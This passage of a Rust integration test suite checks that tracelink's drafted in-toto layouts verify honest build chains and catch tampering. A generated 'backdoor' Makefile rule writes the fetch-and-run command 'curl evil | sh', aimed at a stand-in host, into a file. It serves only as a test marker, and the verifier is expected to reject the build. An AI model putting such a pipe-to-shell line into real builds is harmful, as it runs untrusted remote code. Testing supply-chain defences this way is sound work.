//! `tracelink layout draft` on real precise links, checked by in-toto 3.1.0.
//!
//! The first test drafts with `--exact` (one rule per file); the second,
//! `a_generalized_draft_of_a_configure_make_build_lasts`, drafts a
//! configure + make build with the default generalized rules, and
//! `a_generalized_draft_of_gnu_hello_lasts` the same chain on a real
//! third-party build, GNU hello 2.10 from its release tarball
//! (`$TRACELINK_TEST_CACHE` or `tests/data/cache/`; SKIP when absent, FAIL
//! under CI). Both run through `generalized_draft_lasts`.
//!
//! A trial run records a precise two-step chain (build: `make` compiling two C
//! files, deleting one file and appending to another; package: `tar czf` of
//! build outputs) without any checkout step. The drafted layout must suggest
//! one; recorded in a fresh tree exactly as suggested, followed by the same
//! two steps, the links pass `in-toto-verify` against the draft signed as is,
//! and drafting again from those links gives the same steps. A build product
//! changed before the package step fails verification, naming the rule.
//! `tracelink verify` must give in-toto-verify's verdict every time.
//!
//! Needs root and /dev/fuse (precise mode), make, cc and tar, and the in-toto
//! 3.1.0 venv (`TRACELINK_INTOTO_VENV`): SKIP otherwise, FAIL under CI.

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::{Value, json};

fn write_file(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, text).unwrap();
}

fn generate_project(root: &Path) {
    write_file(
        root,
        "Makefile",
        "CC = cc
all: build/hello

build/hello: build/main.o build/greet.o
\t$(CC) -o $@ build/main.o build/greet.o
\trm -f old.log
\techo built >> VERSION

build/%.o: src/%.c include/greet.h
\tmkdir -p build
\t$(CC) -Iinclude -c $< -o $@

.PHONY: all
",
    );
    write_file(
        root,
        "src/main.c",
        "#include \"greet.h\"\nint main(void) { greet(\"world\"); return 0; }\n",
    );
    write_file(
        root,
        "src/greet.c",
        "#include <stdio.h>\n#include \"greet.h\"\nvoid greet(const char *who) { printf(\"hello, %s\\n\", who); }\n",
    );
    write_file(
        root,
        "include/greet.h",
        "#ifndef GREET_H\n#define GREET_H\nvoid greet(const char *who);\n#endif\n",
    );
    write_file(root, "VERSION", "1.0\n");
    write_file(root, "old.log", "stale log from an earlier build\n");
    write_file(root, "README", "hello: says hello (no step reads this)\n");
}

fn run_ok(cmd: &mut Command, what: &str) -> Output {
    let out = common::output(cmd);
    assert!(out.status.success(), "{what}:\n{}", common::show(&out));
    out
}

/// `tracelink run` of one precise step in `tree`; the link goes into `tree`
/// (the default `-d .`; the default excludes keep links out of later records).
fn precise_step(tree: &Path, key: &Path, step: &str, argv: &[&str]) {
    run_ok(
        common::tracelink()
            .current_dir(tree)
            .env_remove("MAKEFLAGS")
            .env_remove("MFLAGS")
            .env_remove("MAKELEVEL")
            .env("LC_ALL", "C")
            .args(["run", "-n", step, "-k"])
            .arg(key)
            .arg("--")
            .args(argv),
        &format!("tracelink run -n {step}"),
    );
}

fn build(tree: &Path, key: &Path) {
    precise_step(tree, key, "build", &["make"]);
}

fn package(tree: &Path, key: &Path) {
    precise_step(
        tree,
        key,
        "package",
        &["tar", "czf", "hello.tar.gz", "build/hello", "VERSION"],
    );
}

/// The lines of `draft`'s stderr that are the suggested command.
fn suggested_commands(stderr: &str) -> Vec<String> {
    stderr
        .lines()
        .filter_map(|l| l.strip_prefix("  tracelink run "))
        .map(|rest| format!("tracelink run {rest}"))
        .collect()
}

fn draft(dir: &Path, link_dir: &Path, public: &Path, out: &Path, extra: &[&str]) -> String {
    let output = run_ok(
        common::tracelink()
            .current_dir(dir)
            .args(["layout", "draft", "--link-dir"])
            .arg(link_dir)
            .arg("--functionary-key")
            .arg(public)
            .arg("-o")
            .arg(out)
            .args(extra),
        "tracelink layout draft",
    );
    String::from_utf8(output.stderr).unwrap()
}

fn in_toto_verify(venv: &Path, tree: &Path, dir: &Path, layout: &str) -> Output {
    common::output(
        Command::new(venv.join("bin/in-toto-verify"))
            .current_dir(tree)
            .arg("--layout")
            .arg(dir.join(layout))
            .arg("--verification-keys")
            .arg(dir.join("owner.pem.pub"))
            .arg("--link-dir")
            .arg(tree)
            .arg("--verbose"),
    )
}

/// `tracelink verify` with the same arguments.
fn tracelink_verify(tree: &Path, dir: &Path, layout: &str) -> Output {
    common::output(
        common::tracelink()
            .current_dir(tree)
            .arg("verify")
            .arg("--layout")
            .arg(dir.join(layout))
            .arg("--verification-keys")
            .arg(dir.join("owner.pem.pub"))
            .arg("--link-dir")
            .arg(tree),
    )
}

/// in-toto-verify's verdict on `tree` (and its output), checked against
/// tracelink verify's; both against the layout `dir/layout`.
fn verdict(venv: &Path, tree: &Path, dir: &Path, layout: &str) -> (Output, String) {
    let out = in_toto_verify(venv, tree, dir, layout);
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let ours = tracelink_verify(tree, dir, layout);
    assert_eq!(
        ours.status.code(),
        out.status.code(),
        "tracelink verify must agree with in-toto-verify on {}:\n--- in-toto-verify\n{}\n--- tracelink verify\n{}",
        tree.display(),
        common::show(&out),
        common::show(&ours)
    );
    (
        out,
        format!("{text}{}", String::from_utf8_lossy(&ours.stderr)),
    )
}

fn rules(step: &Value, which: &str) -> Vec<String> {
    step[which]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            r.as_array()
                .unwrap()
                .iter()
                .map(|w| w.as_str().unwrap())
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect()
}

#[test]
fn drafted_layout_verifies_a_precise_chain_and_catches_tampering() {
    const TEST: &str = "drafted_layout_verifies_a_precise_chain_and_catches_tampering";
    if common::precise_unavailable(TEST, &["make", "cc", "tar", "gzip"]) {
        return;
    }
    let Some(venv) = common::intoto_venv(TEST) else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().canonicalize().unwrap();
    for name in ["alice.pem", "owner.pem"] {
        run_ok(
            common::tracelink().current_dir(&dir).args(["keygen", name]),
            "keygen",
        );
    }
    let alice = dir.join("alice.pem");
    let alice_pub = dir.join("alice.pem.pub");

    // The trial: build and package, no checkout.
    let trial = dir.join("trial");
    generate_project(&trial);
    build(&trial, &alice);
    package(&trial, &alice);

    let stderr = draft(
        &dir,
        &trial,
        &alice_pub,
        &dir.join("draft.layout"),
        &["--exact"],
    );
    println!("draft (trial):\n{stderr}");
    let suggested = suggested_commands(&stderr);
    let want = format!(
        "tracelink run -n checkout -x -k {} -p Makefile VERSION include/greet.h old.log src/greet.c src/main.c",
        alice.display()
    );
    assert_eq!(suggested, [want], "the suggested checkout:\n{stderr}");

    let text = fs::read_to_string(dir.join("draft.layout")).unwrap();
    let layout: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(layout["signatures"], json!([]));
    let signed = &layout["signed"];
    assert_eq!(signed["_type"], "layout");
    assert_eq!(signed["inspect"], json!([]));
    assert!(signed["readme"].as_str().unwrap().starts_with("DRAFT"));
    let steps = signed["steps"].as_array().unwrap();
    let names: Vec<&str> = steps.iter().map(|s| s["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["checkout", "build", "package"]);
    let alice_id = String::from_utf8(
        run_ok(
            Command::new(venv.join("bin/python"))
                .arg("-c")
                .arg(
                    "import sys; from securesystemslib.signer import SSlibKey; \
                     from cryptography.hazmat.primitives.serialization import load_pem_public_key; \
                     k = SSlibKey.from_crypto(load_pem_public_key(open(sys.argv[1], 'rb').read())); \
                     print(k.keyid)",
                )
                .arg(&alice_pub),
            "in-toto's keyid of alice",
        )
        .stdout,
    )
    .unwrap()
    .trim()
    .to_string();
    for step in steps {
        assert_eq!(step["pubkeys"], json!([alice_id]), "{step}");
        assert_eq!(step["threshold"], json!(1), "{step}");
    }
    assert_eq!(
        signed["keys"]
            .as_object()
            .unwrap()
            .keys()
            .collect::<Vec<_>>(),
        [&alice_id]
    );
    assert_eq!(rules(&steps[0], "expected_materials"), ["DISALLOW *"]);
    assert_eq!(
        rules(&steps[0], "expected_products"),
        [
            "CREATE Makefile",
            "CREATE VERSION",
            "CREATE include/greet.h",
            "CREATE old.log",
            "CREATE src/greet.c",
            "CREATE src/main.c",
            "DISALLOW *"
        ]
    );
    // The build reads (or, for old.log, removes) every checked-out file.
    assert_eq!(
        rules(&steps[1], "expected_materials"),
        ["MATCH * WITH PRODUCTS FROM checkout", "DISALLOW *"]
    );
    assert_eq!(
        rules(&steps[1], "expected_products"),
        [
            "CREATE build/greet.o",
            "CREATE build/hello",
            "CREATE build/main.o",
            "MODIFY VERSION",
            "DISALLOW *"
        ]
    );
    assert_eq!(steps[1]["expected_command"], json!(["make"]));
    assert_eq!(
        rules(&steps[2], "expected_materials"),
        [
            "MATCH VERSION WITH PRODUCTS FROM build",
            "MATCH build/hello WITH PRODUCTS FROM build",
            "DISALLOW *"
        ]
    );
    assert_eq!(
        rules(&steps[2], "expected_products"),
        ["CREATE hello.tar.gz", "DISALLOW *"]
    );

    // The owner signs the draft as is.
    run_ok(
        Command::new(venv.join("bin/in-toto-sign"))
            .current_dir(&dir)
            .args(["-f", "draft.layout", "-k", "owner.pem", "-o", "root.layout"]),
        "in-toto-sign",
    );
    // Or with tracelink sign.
    run_ok(
        common::tracelink().current_dir(&dir).args([
            "sign",
            "draft.layout",
            "-k",
            "owner.pem",
            "-o",
            "root-tracelink.layout",
        ]),
        "tracelink sign",
    );

    // The trial's links alone lack the checkout.
    let (out, text) = verdict(&venv, &trial, &dir, "root.layout");
    assert_eq!(out.status.code(), Some(1), "{}", common::show(&out));
    assert!(text.contains("checkout"), "{}", common::show(&out));

    // The pipeline for real: the checkout exactly as suggested, then the steps.
    let bin_dir = Path::new(env!("CARGO_BIN_EXE_tracelink")).parent().unwrap();
    let path = format!(
        "{}:{}",
        bin_dir.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let record_pipeline = |name: &str, tamper: bool| -> PathBuf {
        let tree = dir.join(name);
        generate_project(&tree);
        run_ok(
            Command::new("sh")
                .current_dir(&tree)
                .env("PATH", &path)
                .arg("-c")
                .arg(&suggested[0]),
            "the suggested checkout command",
        );
        build(&tree, &alice);
        if tamper {
            let mut bytes = fs::read(tree.join("build/hello")).unwrap();
            bytes.extend_from_slice(b"\0tampered after the build\n");
            fs::write(tree.join("build/hello"), bytes).unwrap();
        }
        package(&tree, &alice);
        tree
    };
    let real = record_pipeline("real", false);
    for layout in ["root.layout", "root-tracelink.layout"] {
        let (out, _) = verdict(&venv, &real, &dir, layout);
        assert!(
            out.status.success(),
            "in-toto-verify must accept the pipeline recorded as the draft suggests ({layout}):\n{}",
            common::show(&out)
        );
        println!("in-toto-verify (honest, {layout}):\n{}", common::show(&out));
    }

    // Drafting from the real pipeline's links: no suggestion, the same steps.
    let stderr = draft(
        &dir,
        &real,
        &alice_pub,
        &dir.join("again.layout"),
        &["--exact"],
    );
    assert!(suggested_commands(&stderr).is_empty(), "{stderr}");
    assert!(!stderr.contains("warning"), "{stderr}");
    let again: Value =
        serde_json::from_str(&fs::read_to_string(dir.join("again.layout")).unwrap()).unwrap();
    assert_eq!(again["signed"]["steps"], signed["steps"]);
    assert_eq!(again["signed"]["keys"], signed["keys"]);

    // A build product changed before packaging.
    let tampered = record_pipeline("tampered", true);
    let (out, text) = verdict(&venv, &tampered, &dir, "root.layout");
    println!("in-toto-verify (tampered):\n{}", common::show(&out));
    assert_eq!(
        out.status.code(),
        Some(1),
        "in-toto-verify must reject the tampered build product:\n{}",
        common::show(&out)
    );
    assert!(
        text.contains("'DISALLOW *' matched the following artifacts: ['build/hello']"),
        "in-toto-verify must name the rule and the file:\n{}",
        common::show(&out)
    );
    assert!(
        text.contains(
            "step \"package\", materials: 'DISALLOW *' matched the following artifacts: ['build/hello']"
        ),
        "tracelink verify must name the step, the rule and the file:\n{text}"
    );
    assert!(
        text.contains("'expected_materials' of item 'package'"),
        "in-toto-verify must fail on the package step's materials:\n{}",
        common::show(&out)
    );
}

/// Without precise mode (snapshot links): stdout output, the file laid out
/// byte for byte as in-toto writes it, and the errors that name a file.
#[test]
fn draft_command_output_and_errors() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().canonicalize().unwrap();
    for name in ["alice.pem", "eve.pem"] {
        run_ok(
            common::tracelink().current_dir(&dir).args(["keygen", name]),
            "keygen",
        );
    }
    let tree = dir.join("tree");
    write_file(&tree, "in[1].txt", "input\n");
    let snapshot = |step: &str, key: &str, args: &[&str]| {
        run_ok(
            common::tracelink()
                .current_dir(&tree)
                .args(["run", "-n", step, "-k"])
                .arg(dir.join(key))
                .args(args),
            step,
        );
    };
    snapshot("checkout", "alice.pem", &["-x", "-p", "in[1].txt"]);
    snapshot(
        "build",
        "alice.pem",
        &[
            "-m",
            "in[1].txt",
            "-p",
            "out",
            "--",
            "sh",
            "-c",
            "cp 'in[1].txt' out",
        ],
    );

    // To stdout, nothing to suggest.
    let out = run_ok(
        common::tracelink()
            .current_dir(&tree)
            .args(["layout", "draft", "--expires", "7", "--functionary-key"])
            .arg(dir.join("alice.pem.pub")),
        "draft to stdout",
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(suggested_commands(&stderr).is_empty(), "{stderr}");
    assert!(stderr.contains("2 step(s) from 2 link(s)"), "{stderr}");
    let layout: Value = serde_json::from_slice(&out.stdout).unwrap();
    let steps = layout["signed"]["steps"].as_array().unwrap();
    assert_eq!(
        rules(&steps[1], "expected_materials"),
        [
            "MATCH in[[]1].txt WITH PRODUCTS FROM checkout",
            "DISALLOW *"
        ]
    );
    assert_eq!(
        rules(&steps[1], "expected_products"),
        ["CREATE out", "DISALLOW *"]
    );
    assert_eq!(
        steps[1]["expected_command"],
        json!(["sh", "-c", "cp 'in[1].txt' out"])
    );

    // -o: the same text, laid out as in-toto's Metablock.dump writes it.
    run_ok(
        common::tracelink()
            .current_dir(&tree)
            .args(["layout", "draft", "-o"])
            .arg(dir.join("draft.layout"))
            .arg("--functionary-key")
            .arg(dir.join("alice.pem.pub")),
        "draft -o",
    );
    let text = fs::read_to_string(dir.join("draft.layout")).unwrap();
    let again: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(again["signed"]["steps"], layout["signed"]["steps"]);
    if let Some(venv) = common::intoto_venv("draft_command_output_and_errors") {
        run_ok(
            Command::new(venv.join("bin/python"))
                .current_dir(&dir)
                .arg("-c")
                .arg(
                    "from in_toto.models.metadata import Metablock; \
                 Metablock.load('draft.layout').dump('redumped.layout')",
                ),
            "in-toto reads and writes the draft",
        );
        assert_eq!(
            fs::read_to_string(dir.join("redumped.layout")).unwrap(),
            text,
            "the draft must be laid out as in-toto writes it"
        );
    }

    // A link signed by no given key: an error naming it.
    snapshot("audit", "eve.pem", &["-x", "-p", "out"]);
    let out = common::output(
        common::tracelink()
            .current_dir(&tree)
            .args(["layout", "draft", "--functionary-key"])
            .arg(dir.join("alice.pem.pub")),
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{}", common::show(&out));
    assert!(out.stdout.is_empty(), "{}", common::show(&out));
    assert!(
        stderr.contains("./audit.") && stderr.contains("none of which is a given functionary key"),
        "{stderr}"
    );

    // No links at all.
    let empty = dir.join("empty");
    fs::create_dir(&empty).unwrap();
    let out = common::output(
        common::tracelink()
            .args(["layout", "draft", "--link-dir"])
            .arg(&empty)
            .arg("--functionary-key")
            .arg(dir.join("alice.pem.pub")),
    );
    assert_eq!(out.status.code(), Some(125), "{}", common::show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no links (*.link) in"),
        "{}",
        common::show(&out)
    );
}

/// A link recorded with --allow-incomplete: refused, named, unless the
/// owner passes --allow-incomplete too, and then named in a warning.
#[test]
fn an_incomplete_link_is_refused_unless_allowed() {
    if common::precise_unavailable("an_incomplete_link_is_refused_unless_allowed", &[]) {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().canonicalize().unwrap();
    run_ok(
        common::tracelink()
            .current_dir(&dir)
            .args(["keygen", "alice.pem"]),
        "keygen",
    );
    let tree = dir.join("tree");
    write_file(&tree, "in.txt", "input\n");
    // A process still running when the command ends: incomplete.
    let out = run_ok(
        common::tracelink()
            .current_dir(&tree)
            .args(["run", "-n", "build", "-k"])
            .arg(dir.join("alice.pem"))
            .args(["--allow-incomplete", "--", "sh", "-c"])
            .arg("sleep 5 & cat in.txt > out.txt"),
        "tracelink run --allow-incomplete",
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("still running"),
        "{}",
        common::show(&out)
    );
    let link = fs::read_dir(&tree)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .find(|n| n.starts_with("build.") && n.ends_with(".link"))
        .expect("the link was signed");
    let draft = |extra: &[&str]| {
        common::output(
            common::tracelink()
                .current_dir(&tree)
                .args(["layout", "draft", "--functionary-key"])
                .arg(dir.join("alice.pem.pub"))
                .args(extra),
        )
    };
    let out = draft(&[]);
    assert_ne!(out.status.code(), Some(0), "{}", common::show(&out));
    assert!(out.stdout.is_empty(), "{}", common::show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "./{link}: step \"build\" was recorded with --allow-incomplete"
        )) && stderr.contains("pass --allow-incomplete"),
        "{}",
        common::show(&out)
    );

    let out = draft(&["--allow-incomplete"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "tracelink: warning: ./{link}: step \"build\" was recorded with --allow-incomplete"
        )),
        "{}",
        common::show(&out)
    );
    let layout: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        layout["signed"]["steps"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["name"] == "build"),
        "{layout}"
    );
}

/// An autotools-like project, generated (no real tarball is needed): a
/// `configure` shell script that writes `config.h`, `config.log` and a
/// `Makefile` from `Makefile.in`; 20 C files in `src/core`, 20 in
/// `src/util`, 10 in `lib` (built into `lib/libcompat.a`), two headers in
/// `include`, objects built beside their sources (in tree, as automake
/// does). The Makefile finds the sources with `$(wildcard)`, so a new
/// source file is built without editing it. `backdoor` makes the build
/// also drop `share/backdoor`, in a directory no CREATE pattern covers.
fn generate_configure_project(root: &Path, extra_source: bool, backdoor: bool) {
    write_file(
        root,
        "configure",
        "#!/bin/sh
# A configure script: checks nothing, writes config.h and Makefile.
echo \"configure: creating config.h and Makefile\" > config.log
sed -e 's/@VERSION@/1.2.3/' config.h.in > config.h
sed -e 's/@CC@/cc/' -e 's/@CFLAGS@/-O1/' Makefile.in > Makefile
echo \"configure: done\" >> config.log
",
    );
    write_file(
        root,
        "config.h.in",
        "#define PACKAGE_VERSION \"@VERSION@\"\n",
    );
    let backdoor_rule = if backdoor {
        "\tmkdir -p share && echo 'curl evil | sh' > share/backdoor\n"
    } else {
        ""
    };
    write_file(
        root,
        "Makefile.in",
        &format!(
            "CC = @CC@
CFLAGS = @CFLAGS@ -Iinclude -I.
CORE = $(patsubst %.c,%.o,$(sort $(wildcard src/core/*.c)))
UTIL = $(patsubst %.c,%.o,$(sort $(wildcard src/util/*.c)))
COMPAT = $(patsubst %.c,%.o,$(sort $(wildcard lib/*.c)))

all: app

app: $(CORE) $(UTIL) lib/libcompat.a
\t$(CC) -o $@ $(CORE) $(UTIL) lib/libcompat.a
{backdoor_rule}
lib/libcompat.a: $(COMPAT)
\tar rcs $@ $(COMPAT)

%.o: %.c config.h include/app.h include/compat.h
\t$(CC) $(CFLAGS) -c $< -o $@

.PHONY: all
"
        ),
    );
    write_file(
        root,
        "include/app.h",
        "int core_sum(void);\nint util_sum(void);\n",
    );
    write_file(root, "include/compat.h", "int compat_sum(void);\n");
    let mut core_calls = String::new();
    for i in 0..19 {
        write_file(
            root,
            &format!("src/core/core{i:02}.c"),
            &format!("#include \"app.h\"\nint core{i:02}(void) {{ return {i}; }}\n"),
        );
        core_calls.push_str(&format!("int core{i:02}(void);\n"));
    }
    let sum: Vec<String> = (0..19).map(|i| format!("core{i:02}()")).collect();
    write_file(
        root,
        "src/core/main.c",
        &format!(
            "#include <stdio.h>\n#include \"config.h\"\n#include \"app.h\"\n#include \"compat.h\"\n{core_calls}\
             int core_sum(void) {{ return {}; }}\n\
             int main(void) {{ printf(\"app %s: %d\\n\", PACKAGE_VERSION, core_sum() + util_sum() + compat_sum()); return 0; }}\n",
            sum.join(" + ")
        ),
    );
    let mut util_decls = String::new();
    for i in 0..19 {
        write_file(
            root,
            &format!("src/util/util{i:02}.c"),
            &format!("int util{i:02}(void) {{ return {i} * 2; }}\n"),
        );
        util_decls.push_str(&format!("int util{i:02}(void);\n"));
    }
    let sum: Vec<String> = (0..19).map(|i| format!("util{i:02}()")).collect();
    write_file(
        root,
        "src/util/sum.c",
        &format!(
            "#include \"app.h\"\n{util_decls}int util_sum(void) {{ return {}; }}\n",
            sum.join(" + ")
        ),
    );
    for i in 0..9 {
        write_file(
            root,
            &format!("lib/compat{i}.c"),
            &format!("int compat{i}(void) {{ return {i}; }}\n"),
        );
    }
    write_file(
        root,
        "lib/sum.c",
        "#include \"compat.h\"\nint compat0(void);\nint compat_sum(void) { return compat0() + 1; }\n",
    );
    if extra_source {
        // Next week's new file: a utility nobody calls yet.
        write_file(
            root,
            "src/util/util19.c",
            "int util19(void) { return 38; }\n",
        );
    }
    write_file(
        root,
        "README",
        "app: an autotools-like example (no step reads this)\n",
    );
}

fn rule_counts(layout: &Value) -> Vec<(String, usize, usize)> {
    layout["signed"]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["name"].as_str().unwrap().to_owned(),
                s["expected_materials"].as_array().unwrap().len(),
                s["expected_products"].as_array().unwrap().len(),
            )
        })
        .collect()
}

/// Which tree of a project a chain is recorded in.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Tree {
    /// As the trial had it.
    Plain,
    /// Next week's: one more source file.
    NextWeek,
    /// One whose build also writes a file where no CREATE pattern reaches.
    Backdoor,
}

/// A configure + make project whose chain (checkout, configure, `make -j2`,
/// package) a generalized draft must cover and keep covering.
struct ConfigureMake<'a> {
    test: &'a str,
    tools: &'a [&'a str],
    /// Writes the project as the new directory given.
    generate: &'a dyn Fn(&Path, Tree),
    configure: &'a [&'a str],
    package: &'a [&'a str],
    /// The built program: packaged, and changed before packaging.
    program: &'a str,
    /// A product only next week's tree has.
    next_week_product: &'a str,
    /// The file the backdoored build writes.
    backdoor: &'a str,
}

/// Drafts (generalized and `--exact`) from a trial of `p`'s steps, checks
/// the generalized draft (at most 30 rules per step, and `check` with the
/// functionary's key, the suggested commands and the draft), signs it with
/// in-toto-sign and tracelink sign, and records the chain as suggested:
/// both verifiers accept it, and next week's tree too without re-drafting
/// (the exact draft would not), and both reject a program changed before
/// packaging and a backdoored build.
fn generalized_draft_lasts(p: &ConfigureMake, check: impl FnOnce(&Path, &[String], &Value)) {
    if common::precise_unavailable(p.test, p.tools) {
        return;
    }
    let Some(venv) = common::intoto_venv(p.test) else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().canonicalize().unwrap();
    for name in ["alice.pem", "owner.pem"] {
        run_ok(
            common::tracelink().current_dir(&dir).args(["keygen", name]),
            "keygen",
        );
    }
    let alice = dir.join("alice.pem");
    let alice_pub = dir.join("alice.pem.pub");
    let configure_and_make = |tree: &Path| {
        precise_step(tree, &alice, "configure", p.configure);
        precise_step(tree, &alice, "make", &["make", "-j2"]);
    };
    let package = |tree: &Path| precise_step(tree, &alice, "package", p.package);

    // The trial: configure, make, package; no checkout.
    let trial = dir.join("trial");
    (p.generate)(&trial, Tree::Plain);
    configure_and_make(&trial);
    package(&trial);
    let stderr = draft(&dir, &trial, &alice_pub, &dir.join("draft.layout"), &[]);
    println!("draft (trial):\n{stderr}");
    let suggested = suggested_commands(&stderr);
    assert_eq!(suggested.len(), 1, "one suggested checkout:\n{stderr}");
    draft(
        &dir,
        &trial,
        &alice_pub,
        &dir.join("exact.layout"),
        &["--exact"],
    );
    let layout: Value =
        serde_json::from_str(&fs::read_to_string(dir.join("draft.layout")).unwrap()).unwrap();
    let exact: Value =
        serde_json::from_str(&fs::read_to_string(dir.join("exact.layout")).unwrap()).unwrap();
    println!(
        "{}: rules per step (name, materials, products): --exact {:?}, generalized {:?}",
        p.test,
        rule_counts(&exact),
        rule_counts(&layout)
    );
    // At most 30 rules per step: checked last, so that a failure here
    // still shows whether the chain verifies.
    let too_many: Vec<(String, usize, usize)> = rule_counts(&layout)
        .into_iter()
        .filter(|(_, m, p)| *m > 30 || *p > 30)
        .collect();
    let steps_json = layout["signed"]["steps"].as_array().unwrap();
    let names: Vec<&str> = steps_json
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["checkout", "configure", "make", "package"]);
    for step in steps_json {
        assert_eq!(
            rules(step, "expected_products").last().unwrap(),
            "DISALLOW *"
        );
        assert_eq!(
            rules(step, "expected_materials").last().unwrap(),
            "DISALLOW *"
        );
    }
    check(&alice, &suggested, &layout);

    run_ok(
        Command::new(venv.join("bin/in-toto-sign"))
            .current_dir(&dir)
            .args(["-f", "draft.layout", "-k", "owner.pem", "-o", "root.layout"]),
        "in-toto-sign",
    );
    for (draft, signed) in [
        ("draft.layout", "root-tracelink.layout"),
        ("exact.layout", "root-exact.layout"),
    ] {
        run_ok(
            common::tracelink().current_dir(&dir).args([
                "sign",
                draft,
                "-k",
                "owner.pem",
                "-o",
                signed,
            ]),
            "tracelink sign",
        );
    }

    let bin_dir = Path::new(env!("CARGO_BIN_EXE_tracelink")).parent().unwrap();
    let path = format!(
        "{}:{}",
        bin_dir.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    // The chain up to make, in a new tree.
    let record_until_make = |name: &str, kind: Tree| {
        let tree = dir.join(name);
        (p.generate)(&tree, kind);
        run_ok(
            Command::new("sh")
                .current_dir(&tree)
                .env("PATH", &path)
                .arg("-c")
                .arg(&suggested[0]),
            "the suggested checkout command",
        );
        configure_and_make(&tree);
        tree
    };

    // The chain recorded as the draft suggests; a copy of its tree after
    // make has its program changed before packaging.
    let real = record_until_make("real", Tree::Plain);
    let tampered = dir.join("tampered");
    run_ok(
        Command::new("cp").arg("-a").arg(&real).arg(&tampered),
        "cp -a",
    );
    package(&real);
    let mut bytes = fs::read(tampered.join(p.program)).unwrap();
    bytes.extend_from_slice(b"\0tampered after the build\n");
    fs::write(tampered.join(p.program), bytes).unwrap();
    package(&tampered);

    // Both verifiers, both signatures.
    for signed in ["root.layout", "root-tracelink.layout"] {
        let (out, _) = verdict(&venv, &real, &dir, signed);
        assert!(
            out.status.success(),
            "the chain recorded as the draft suggests must verify ({signed}):\n{}",
            common::show(&out)
        );
    }

    // Next week: one more source file, the chain recorded again, the same
    // signed layout.
    let next = record_until_make("next-week", Tree::NextWeek);
    package(&next);
    assert!(next.join(p.next_week_product).is_file());
    let (out, _) = verdict(&venv, &next, &dir, "root.layout");
    assert!(
        out.status.success(),
        "one more source file must still verify without re-drafting:\n{}",
        common::show(&out)
    );
    // The exact draft, signed, would not have lasted.
    let (out, _) = verdict(&venv, &next, &dir, "root-exact.layout");
    assert_eq!(out.status.code(), Some(1), "{}", common::show(&out));

    // A product changed between make and package.
    let (out, text) = verdict(&venv, &tampered, &dir, "root.layout");
    assert_eq!(out.status.code(), Some(1), "{}", common::show(&out));
    let want = format!(
        "step \"package\", materials: 'DISALLOW *' matched the following artifacts: ['{}']",
        p.program
    );
    assert!(text.contains(&want), "{want}\n{text}");

    // An extra product where no CREATE pattern reaches.
    let backdoor = record_until_make("backdoor", Tree::Backdoor);
    package(&backdoor);
    assert!(backdoor.join(p.backdoor).is_file());
    let (out, text) = verdict(&venv, &backdoor, &dir, "root.layout");
    assert_eq!(out.status.code(), Some(1), "{}", common::show(&out));
    let want = format!(
        "step \"make\", products: 'DISALLOW *' matched the following artifacts: ['{}']",
        p.backdoor
    );
    assert!(text.contains(&want), "{want}\n{text}");
    assert!(
        too_many.is_empty(),
        "more than 30 rules (name, materials, products): {too_many:?}\n{layout:#}"
    );
}

#[test]
fn a_generalized_draft_of_a_configure_make_build_lasts() {
    generalized_draft_lasts(
        &ConfigureMake {
            test: "a_generalized_draft_of_a_configure_make_build_lasts",
            tools: &["make", "cc", "ar", "sed", "tar", "gzip"],
            generate: &|tree, kind| {
                generate_configure_project(tree, kind == Tree::NextWeek, kind == Tree::Backdoor)
            },
            configure: &["sh", "configure"],
            package: &["tar", "czf", "app.tar.gz", "app", "config.h"],
            program: "app",
            next_week_product: "src/util/util19.o",
            backdoor: "share/backdoor",
        },
        |alice, suggested, layout| {
            assert_eq!(
                suggested,
                [format!(
                    "tracelink run -n checkout -x -k {} -p Makefile.in config.h.in configure include lib src",
                    alice.display()
                )],
                "the suggested checkout lists directories"
            );
            let steps_json = layout["signed"]["steps"].as_array().unwrap();
            assert_eq!(
                rules(&steps_json[0], "expected_products"),
                [
                    "CREATE *.in",
                    "CREATE configure",
                    "CREATE include/*",
                    "CREATE lib/*",
                    "CREATE src/*",
                    "DISALLOW *"
                ]
            );
            assert_eq!(
                rules(&steps_json[2], "expected_materials"),
                [
                    "MATCH include/* WITH PRODUCTS FROM checkout",
                    "MATCH *.c WITH PRODUCTS FROM checkout",
                    "MATCH Makefile WITH PRODUCTS FROM configure",
                    "MATCH config.h WITH PRODUCTS FROM configure",
                    "DISALLOW *"
                ]
            );
            assert_eq!(
                rules(&steps_json[2], "expected_products"),
                [
                    "CREATE app",
                    "CREATE *.o",
                    "CREATE lib/libcompat.a",
                    "DISALLOW *"
                ]
            );
        },
    );
}

/// GNU hello 2.10 from its release tarball. Next week's tree adds a C
/// source file to the program, as a maintainer would: `src/extra.c`,
